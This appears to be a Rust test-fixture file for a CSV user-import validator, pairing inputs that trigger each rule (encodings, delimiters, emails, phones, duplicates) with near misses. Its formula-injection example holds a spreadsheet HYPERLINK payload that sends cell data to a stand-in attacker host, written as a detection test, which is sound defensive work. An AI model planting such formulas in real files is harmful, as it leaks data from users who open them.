//! Examples of the user-import CSV rules: for each rule a file that makes it
//! fire and a near miss that does not. Most are a small export in the shape
//! of the guide's "CSV Fields" table (the four mandatory columns firstName,
//! lastName, email, userName, plus the column the rule is about); the
//! encoding examples are the bytes Excel writes ("CSV (Comma delimited)" in
//! Windows-1252 or Shift-JIS, "CSV UTF-8" with a BOM, "Unicode Text" in
//! UTF-16LE).

use super::rules::*;
use crate::rules::{Example as E, RuleExamples as R};

/// The smallest clean file: the four mandatory columns and one user.
const BASE: &str = "\
firstName,lastName,email,userName
Jane,Doe,jane.doe@example.com,jane.doe@example.com
";

/// Excel "CSV (Comma delimited)" on a Western-European Windows: Windows-1252
/// (`é` is the single byte 0xE9).
const WINDOWS_1252: &[u8] = b"firstName,lastName,email,userName\r\n\
Ren\xE9e,Martin,renee.martin@example.fr,renee.martin@example.fr\r\n";

/// The same file saved as Excel "CSV UTF-8": a BOM, and `é` as C3 A9.
const UTF8_BOM: &[u8] = b"\xEF\xBB\xBFfirstName,lastName,email,userName\r\n\
Ren\xC3\xA9e,Martin,renee.martin@example.fr,renee.martin@example.fr\r\n";

/// Excel "CSV (Comma delimited)" on a Japanese Windows: Shift-JIS (code
/// page 932). 美咲 佐藤 is 94 FC 8D E7 / 8D B2 93 A1; 0x8D is not a
/// character in UTF-8 nor in Windows-1252.
const SHIFT_JIS: &[u8] = b"firstName,lastName,email,userName\r\n\
\x94\xFC\x8D\xE7,\x8D\xB2\x93\xA1,misaki.sato@example.co.jp,misaki.sato@example.co.jp\r\n";

/// The same file saved as "CSV UTF-8".
const SHIFT_JIS_AS_UTF8: &str = "\u{feff}firstName,lastName,email,userName\r
美咲,佐藤,misaki.sato@example.co.jp,misaki.sato@example.co.jp\r
";

/// Excel "Unicode Text": UTF-16LE with a BOM, tab-separated.
const UTF16LE: &[u8] = b"\xFF\xFE\
f\0i\0r\0s\0t\0N\0a\0m\0e\0\t\0\
l\0a\0s\0t\0N\0a\0m\0e\0\t\0\
e\0m\0a\0i\0l\0\t\0\
u\0s\0e\0r\0N\0a\0m\0e\0\r\0\n\0\
R\0e\0n\0\xE9\0e\0\t\0\
M\0a\0r\0t\0i\0n\0\t\0\
r\0e\0n\0e\0e\0.\0m\0a\0r\0t\0i\0n\0@\0e\0x\0a\0m\0p\0l\0e\0.\0f\0r\0\t\0\
r\0e\0n\0e\0e\0.\0m\0a\0r\0t\0i\0n\0@\0e\0x\0a\0m\0p\0l\0e\0.\0f\0r\0\r\0\n\0";

/// [`UTF16LE`] cut off one byte before its end (an interrupted download).
const UTF16LE_TRUNCATED: &[u8] = b"\xFF\xFE\
f\0i\0r\0s\0t\0N\0a\0m\0e\0\t\0\
l\0a\0s\0t\0N\0a\0m\0e\0\t\0\
e\0m\0a\0i\0l\0\t\0\
u\0s\0e\0r\0N\0a\0m\0e\0\r\0\n\0\
R\0e\0n\0\xE9\0e\0\t\0\
M\0a\0r\0t\0i\0n\0\t\0\
r\0e\0n\0e\0e\0.\0m\0a\0r\0t\0i\0n\0@\0e\0x\0a\0m\0p\0l\0e\0.\0f\0r\0\t\0\
r\0e\0n\0e\0e\0.\0m\0a\0r\0t\0i\0n\0@\0e\0x\0a\0m\0p\0l\0e\0.\0f\0r\0\r\0\n";

/// The same text in UTF-16 big-endian (BOM FE FF).
const UTF16BE: &[u8] = b"\xFE\xFF\
\0f\0i\0r\0s\0t\0N\0a\0m\0e\0\t\
\0l\0a\0s\0t\0N\0a\0m\0e\0\t\
\0e\0m\0a\0i\0l\0\t\
\0u\0s\0e\0r\0N\0a\0m\0e\0\r\0\n\
\0R\0e\0n\0\xE9\0e\0\t\
\0M\0a\0r\0t\0i\0n\0\t\
\0r\0e\0n\0e\0e\0.\0m\0a\0r\0t\0i\0n\0@\0e\0x\0a\0m\0p\0l\0e\0.\0f\0r\0\t\
\0r\0e\0n\0e\0e\0.\0m\0a\0r\0t\0i\0n\0@\0e\0x\0a\0m\0p\0l\0e\0.\0f\0r\0\r\0\n";

/// A tab-separated export; a comma inside a cell is just text.
const TABS: &str = "\
firstName\tlastName\tdisplayName\temail\tuserName
Jane\tDoe\tDoe, Jane\tjane.doe@example.com\tjane.doe@example.com
";

/// Two users with invalid addresses (a missing top-level domain).
const TWO_BAD_EMAILS: &str = "\
firstName,lastName,email,userName
Jane,Doe,jane.doe@example,jane.doe@example.com
Rajesh,Kumar,rajesh.kumar@example,rajesh.kumar@example.com
";

pub const EXAMPLES: &[R] = &[
    R {
        rule: &ENCODING_INVALID_UTF8,
        examples: &[
            E::fires_bytes(SHIFT_JIS),
            E::quiet(SHIFT_JIS_AS_UTF8),
            // Windows-1252 bytes are re-read as what they mean there.
            E::quiet_bytes(WINDOWS_1252),
        ],
    },
    R {
        rule: &ENCODING_WINDOWS_1252,
        examples: &[E::fires_bytes(WINDOWS_1252), E::quiet_bytes(UTF8_BOM)],
    },
    R {
        rule: &ENCODING_UTF16BE,
        examples: &[E::fires_bytes(UTF16BE), E::quiet_bytes(UTF16LE)],
    },
    R {
        rule: &ENCODING_INVALID_UTF16,
        examples: &[E::fires_bytes(UTF16LE_TRUNCATED), E::quiet_bytes(UTF16LE)],
    },
    R {
        rule: &ENCODING_DOUBLE_BOM,
        examples: &[
            E::fires_bytes(
                b"\xEF\xBB\xBF\xEF\xBB\xBFfirstName,lastName,email,userName\r\n\
Jane,Doe,jane.doe@example.com,jane.doe@example.com\r\n",
            ),
            E::quiet_bytes(
                b"\xEF\xBB\xBFfirstName,lastName,email,userName\r\n\
Jane,Doe,jane.doe@example.com,jane.doe@example.com\r\n",
            ),
        ],
    },
    R {
        rule: &NOT_A_CSV,
        examples: &[
            // The first bytes of an .xlsx workbook (a ZIP archive).
            E::fires_bytes(
                b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00b\xEE\x9Dh^\x01\x00\x00\
\x90\x04\x00\x00\x13\x00\x08\x02[Content_Types].xml \xA2\x04\x02(\xA0\x00\x02",
            ),
            E::quiet(BASE),
        ],
    },
    R {
        rule: &EMPTY_FILE,
        examples: &[
            E::fires(""),
            // Excel "CSV UTF-8" of an empty sheet: only the BOM.
            E::fires_bytes(b"\xEF\xBB\xBF"),
            E::quiet("firstName,lastName,email,userName\n"),
        ],
    },
    R {
        rule: &NO_DATA_ROWS,
        examples: &[
            E::fires("firstName,lastName,email,userName\n"),
            E::quiet(BASE),
        ],
    },
    R {
        rule: &MIXED_DELIMITERS,
        examples: &[
            // A row pasted from a comma-separated file into a tab-separated one.
            E::fires(
                "\
firstName\tlastName\temail\tuserName
Jane\tDoe\tjane.doe@example.com\tjane.doe@example.com
Rajesh,Kumar,rajesh.kumar@example.com,rajesh.kumar@example.com
",
            ),
            E::quiet(TABS),
        ],
    },
    R {
        rule: &UNSUPPORTED_DELIMITER,
        examples: &[
            E::fires(
                "\
firstName;lastName;email;userName
Jane;Doe;jane.doe@example.com;jane.doe@example.com
",
            ),
            E::quiet(BASE),
        ],
    },
    R {
        rule: &EXCEL_SEPARATOR_LINE,
        examples: &[
            E::fires(
                "\
sep=,
firstName,lastName,email,userName
Jane,Doe,jane.doe@example.com,jane.doe@example.com
",
            ),
            E::quiet(BASE),
        ],
    },
    R {
        rule: &HEADER_NOT_FIRST,
        examples: &[
            E::fires(
                "\
Users exported from Workday on 2026-05-28

firstName,lastName,email,userName
Jane,Doe,jane.doe@example.com,jane.doe@example.com
",
            ),
            E::quiet(BASE),
        ],
    },
    R {
        rule: &UNBALANCED_QUOTE,
        examples: &[
            E::fires(
                "\
firstName,lastName,email,userName,jobTitle
Jane,Doe,jane.doe@example.com,jane.doe@example.com,\"Director, Engineering
Rajesh,Kumar,rajesh.kumar@example.com,rajesh.kumar@example.com,Analyst
",
            ),
            E::quiet(
                "\
firstName,lastName,email,userName,jobTitle
Jane,Doe,jane.doe@example.com,jane.doe@example.com,\"Director, Engineering\"
Rajesh,Kumar,rajesh.kumar@example.com,rajesh.kumar@example.com,Analyst
",
            ),
            E::fires(
                "\
firstName,lastName,email,userName,displayName
Robert,Ray,bob.ray@example.com,bob.ray@example.com,\"Robert \"Bob\" Ray\"
",
            ),
            E::quiet(
                "\
firstName,lastName,email,userName,displayName
Robert,Ray,bob.ray@example.com,bob.ray@example.com,\"Robert \"\"Bob\"\" Ray\"
",
            ),
        ],
    },
    R {
        rule: &RAGGED_ROW,
        examples: &[
            E::fires(
                "\
firstName,lastName,email,userName
Carlos,Silva, Jr.,carlos.silva@example.com,carlos.silva@example.com
",
            ),
            E::quiet(
                "\
firstName,lastName,email,userName
Carlos,\"Silva, Jr.\",carlos.silva@example.com,carlos.silva@example.com
",
            ),
        ],
    },
    R {
        rule: &EMPTY_ROW,
        examples: &[
            // Rows Excel keeps after once-filled cells were cleared.
            E::fires(
                "\
firstName,lastName,email,userName
Jane,Doe,jane.doe@example.com,jane.doe@example.com
,,,
,,,
",
            ),
            E::quiet(BASE),
        ],
    },
    R {
        rule: &UNKNOWN_COLUMN,
        examples: &[
            E::fires(
                "\
firstName,lastName,email,userName,department
Jane,Doe,jane.doe@example.com,jane.doe@example.com,Engineering
",
            ),
            E::quiet(
                "\
firstName,lastName,email,userName,businessUnit
Jane,Doe,jane.doe@example.com,jane.doe@example.com,Engineering
",
            ),
        ],
    },
    R {
        rule: &COLUMN_NAME_CASE,
        examples: &[
            E::fires(
                "\
firstName,lastName,email,Username
Jane,Doe,jane.doe@example.com,jane.doe@example.com
",
            ),
            E::quiet(BASE),
            // The guide spells the country field both ISOcountry and ISOCountry.
            E::quiet(
                "\
firstName,lastName,email,userName,ISOCountry
Jane,Doe,jane.doe@example.com,jane.doe@example.com,US
",
            ),
        ],
    },
    R {
        rule: &DUPLICATE_COLUMN,
        examples: &[
            E::fires(
                "\
firstName,lastName,email,userName,ISOcountry,ISOCountry
Jane,Doe,jane.doe@example.com,jane.doe@example.com,US,US
",
            ),
            E::quiet(
                "\
firstName,lastName,email,userName,ISOcountry,phoneBusinessISOCountry
Jane,Doe,jane.doe@example.com,jane.doe@example.com,US,US
",
            ),
        ],
    },
    R {
        rule: &MISSING_COLUMN,
        examples: &[
            E::fires(
                "\
firstName,lastName,email
Jane,Doe,jane.doe@example.com
",
            ),
            E::quiet(BASE),
            E::fires(BASE).with(r#"{"sso": true}"#),
            E::quiet(
                "\
employeeID,firstName,lastName,email,userName
E1001,Jane,Doe,jane.doe@example.com,jane.doe@example.com
",
            )
            .with(r#"{"sso": true}"#),
        ],
    },
    R {
        rule: &MEETING_SITE_EXPORT,
        examples: &[
            E::fires(
                "\
UserName,FirstName,LastName,Email,City,Country/Region,PhoneCntry,PhoneLocal
jdoe,Jane,Doe,jane.doe@example.com,San Jose,United States of America,1,408 555 0100
",
            ),
            // Converted as the guide's renaming table says.
            E::quiet(
                "\
firstName,lastName,email,userName,city,country,phoneBusinessCountryCode,phoneBusinessNumber
Jane,Doe,jane.doe@example.com,jane.doe@example.com,San Jose,United States of America,1,408 555 0100
",
            ),
        ],
    },
    R {
        rule: &MANDATORY_EMPTY,
        examples: &[
            E::fires(
                "\
firstName,lastName,email,userName,jobTitle
Cher,,cher@example.com,cher@example.com,Singer
",
            ),
            E::quiet(
                "\
firstName,lastName,email,userName,jobTitle
Jane,Doe,jane.doe@example.com,jane.doe@example.com,
",
            ),
            E::fires(
                "\
firstName,lastName,email,userName,city
Jane,Doe,jane.doe@example.com,jane.doe@example.com,
",
            )
            .with(r#"{"mandatory": ["city"]}"#),
        ],
    },
    R {
        rule: &DASH_IN_MANDATORY,
        examples: &[
            E::fires(
                "\
firstName,lastName,email,userName,jobTitle
Cher,-,cher@example.com,cher@example.com,Singer
",
            ),
            E::quiet(
                "\
firstName,lastName,email,userName,jobTitle
Jane,Doe,jane.doe@example.com,jane.doe@example.com,-
",
            ),
        ],
    },
    R {
        rule: &NOT_APPLICABLE,
        examples: &[
            E::fires(
                "\
firstName,lastName,email,userName,jobTitle
Jane,Doe,jane.doe@example.com,jane.doe@example.com,N/A
",
            ),
            E::quiet(
                "\
firstName,lastName,email,userName,jobTitle
Jane,Doe,jane.doe@example.com,jane.doe@example.com,-
",
            ),
        ],
    },
    R {
        rule: &EMAIL_INVALID,
        examples: &[
            // Pasted from Outlook's address line.
            E::fires(
                "\
firstName,lastName,email,userName
Jane,Doe,Jane Doe <jane.doe@example.com>,jane.doe@example.com
",
            ),
            E::quiet(BASE),
        ],
    },
    R {
        rule: &USERNAME_INVALID,
        examples: &[
            // An Active Directory down-level logon name.
            E::fires(
                "\
firstName,lastName,email,userName
Jane,Doe,jane.doe@example.com,EXAMPLE\\jdoe
",
            ),
            E::quiet(BASE),
        ],
    },
    R {
        rule: &USERNAME_NOT_EMAIL,
        examples: &[
            // An Active Directory UPN that is not the mail address.
            E::fires(
                "\
firstName,lastName,email,userName
Jane,Doe,jane.doe@example.com,jdoe@corp.example.com
",
            ),
            // Differs only in case: the same address.
            E::quiet(
                "\
firstName,lastName,email,userName
Jane,Doe,jane.doe@example.com,Jane.Doe@example.com
",
            ),
        ],
    },
    R {
        rule: &COUNTRY_INVALID,
        examples: &[
            E::fires(
                "\
firstName,lastName,email,userName,ISOcountry
Oliver,Smith,oliver.smith@example.co.uk,oliver.smith@example.co.uk,UK
",
            ),
            E::quiet(
                "\
firstName,lastName,email,userName,ISOcountry
Oliver,Smith,oliver.smith@example.co.uk,oliver.smith@example.co.uk,GB
",
            ),
        ],
    },
    R {
        rule: &COUNTRY_CASE,
        examples: &[
            E::fires(
                "\
firstName,lastName,email,userName,ISOcountry
Jane,Doe,jane.doe@example.com,jane.doe@example.com,us
",
            ),
            E::quiet(
                "\
firstName,lastName,email,userName,ISOcountry
Jane,Doe,jane.doe@example.com,jane.doe@example.com,US
",
            ),
        ],
    },
    R {
        rule: &YES_NO_INVALID,
        examples: &[
            E::fires(
                "\
firstName,lastName,email,userName,activeConnect,center
Jane,Doe,jane.doe@example.com,jane.doe@example.com,TRUE,No
",
            ),
            E::quiet(
                "\
firstName,lastName,email,userName,activeConnect,center
Jane,Doe,jane.doe@example.com,jane.doe@example.com,Yes,No
",
            ),
        ],
    },
    R {
        rule: &TRUE_FALSE_INVALID,
        examples: &[
            E::fires(
                "\
firstName,lastName,email,userName,IMLoggingEnable
Jane,Doe,jane.doe@example.com,jane.doe@example.com,Yes
",
            ),
            // Excel turns True into its boolean TRUE: a warning.
            E::fires(
                "\
firstName,lastName,email,userName,IMLoggingEnable
Jane,Doe,jane.doe@example.com,jane.doe@example.com,TRUE
",
            ),
            E::quiet(
                "\
firstName,lastName,email,userName,IMLoggingEnable
Jane,Doe,jane.doe@example.com,jane.doe@example.com,True
",
            ),
        ],
    },
    R {
        rule: &STORAGE_INVALID,
        examples: &[
            E::fires(
                "\
firstName,lastName,email,userName,storageAllocated
Jane,Doe,jane.doe@example.com,jane.doe@example.com,\"1,024\"
",
            ),
            E::quiet(
                "\
firstName,lastName,email,userName,storageAllocated
Jane,Doe,jane.doe@example.com,jane.doe@example.com,1024
",
            ),
        ],
    },
    R {
        rule: &PHONE_INVALID,
        examples: &[
            // Excel shows a 12-digit number typed into a General cell
            // (442079460958) as 4.42079E+11, and saves it that way.
            E::fires(
                "\
firstName,lastName,email,userName,phoneBusinessISOCountry,phoneBusinessNumber
Oliver,Smith,oliver.smith@example.co.uk,oliver.smith@example.co.uk,GB,4.42079E+11
",
            ),
            E::quiet(
                "\
firstName,lastName,email,userName,phoneBusinessISOCountry,phoneBusinessNumber
Oliver,Smith,oliver.smith@example.co.uk,oliver.smith@example.co.uk,GB,+44 20 7946 0958
",
            ),
            // An extension may follow the number.
            E::quiet(
                "\
firstName,lastName,email,userName,phoneBusinessISOCountry,phoneBusinessNumber
Oliver,Smith,oliver.smith@example.co.uk,oliver.smith@example.co.uk,GB,020 7946 0958 ext 123
",
            ),
        ],
    },
    R {
        rule: &PHONE_NO_COUNTRY_CODE,
        examples: &[
            E::fires(
                "\
firstName,lastName,email,userName,phoneBusinessISOCountry,phoneBusinessNumber
Jane,Doe,jane.doe@example.com,jane.doe@example.com,,(408) 555-0100
",
            ),
            E::quiet(
                "\
firstName,lastName,email,userName,phoneBusinessISOCountry,phoneBusinessNumber
Jane,Doe,jane.doe@example.com,jane.doe@example.com,US,(408) 555-0100
",
            ),
            E::quiet(
                "\
firstName,lastName,email,userName,phoneBusinessISOCountry,phoneBusinessNumber
Jane,Doe,jane.doe@example.com,jane.doe@example.com,,+1 (408) 555-0100
",
            ),
        ],
    },
    R {
        rule: &PHOTO_URL_INVALID,
        examples: &[
            E::fires(
                "\
firstName,lastName,email,userName,userProfilePhotoURL
Jane,Doe,jane.doe@example.com,jane.doe@example.com,\\\\fileserver\\photos\\jdoe.jpg
",
            ),
            E::quiet(
                "\
firstName,lastName,email,userName,userProfilePhotoURL
Jane,Doe,jane.doe@example.com,jane.doe@example.com,https://intranet.example.com/photos/jdoe.jpg
",
            ),
        ],
    },
    R {
        rule: &DUPLICATE_EMAIL,
        examples: &[
            E::fires(
                "\
firstName,lastName,email,userName
Jane,Doe,jane.doe@example.com,jane.doe@example.com
Jane,Doe,Jane.Doe@example.com,Jane.Doe@example.com
",
            ),
            E::quiet(
                "\
firstName,lastName,email,userName
Jane,Doe,jane.doe@example.com,jane.doe@example.com
Jane,Doe,jane.doe2@example.com,jane.doe2@example.com
",
            ),
        ],
    },
    R {
        rule: &DUPLICATE_USERNAME,
        examples: &[
            E::fires(
                "\
firstName,lastName,email,userName
Ann,Lee,ann.lee@example.com,ann.lee@example.com
Anna,Lee,anna.lee@example.com,ann.lee@example.com
",
            ),
            E::quiet(
                "\
firstName,lastName,email,userName
Ann,Lee,ann.lee@example.com,ann.lee@example.com
Anna,Lee,anna.lee@example.com,anna.lee@example.com
",
            ),
        ],
    },
    R {
        rule: &FORMULA_INJECTION,
        examples: &[
            E::fires(
                "\
firstName,lastName,email,userName,jobTitle
Jane,Doe,jane.doe@example.com,jane.doe@example.com,\"=HYPERLINK(\"\"http://attacker.example/?\"\"&A1,\"\"Profile\"\")\"
",
            ),
            // A leading + is expected in a phone number field.
            E::quiet(
                "\
firstName,lastName,email,userName,phoneBusinessNumber
Jane,Doe,jane.doe@example.com,jane.doe@example.com,+1 408 555 0100
",
            ),
            // "-" alone is the guide's empty value.
            E::quiet(
                "\
firstName,lastName,email,userName,jobTitle
Jane,Doe,jane.doe@example.com,jane.doe@example.com,-
",
            ),
        ],
    },
    R {
        rule: &SURROUNDING_WHITESPACE,
        examples: &[
            E::fires(
                "\
firstName,lastName,email,userName
Jan,van der Berg ,jan.vanderberg@example.nl,jan.vanderberg@example.nl
",
            ),
            E::quiet(
                "\
firstName,lastName,email,userName
Jan,van der Berg,jan.vanderberg@example.nl,jan.vanderberg@example.nl
",
            ),
        ],
    },
    R {
        rule: &CONTROL_CHARACTER,
        examples: &[
            // A Word line break (Shift+Enter, U+000B) pasted into a cell.
            E::fires(
                "\
firstName,lastName,email,userName,jobTitle
Jane,Doe,jane.doe@example.com,jane.doe@example.com,Director\u{b}Engineering
",
            ),
            // A real line break inside a quoted cell is allowed.
            E::quiet(
                "\
firstName,lastName,email,userName,jobTitle
Jane,Doe,jane.doe@example.com,jane.doe@example.com,\"Director
Engineering\"
",
            ),
        ],
    },
    R {
        rule: &FINDINGS_TRUNCATED,
        examples: &[
            E::fires(TWO_BAD_EMAILS).with(r#"{"max_findings_per_rule": 1}"#),
            E::quiet(TWO_BAD_EMAILS).with(r#"{"max_findings_per_rule": 2}"#),
        ],
    },
];
